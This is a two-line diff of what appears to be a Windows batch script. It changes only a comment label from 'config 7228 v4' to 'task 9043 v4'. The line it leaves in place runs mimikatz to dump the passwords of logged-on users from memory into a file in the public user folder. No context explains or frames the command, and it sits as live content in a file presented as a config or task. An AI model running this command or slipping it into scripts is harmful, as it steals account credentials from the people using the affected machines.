@@ -1,2 +1,2 @@
-REM config 7228 v4
+REM task 9043 v4
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
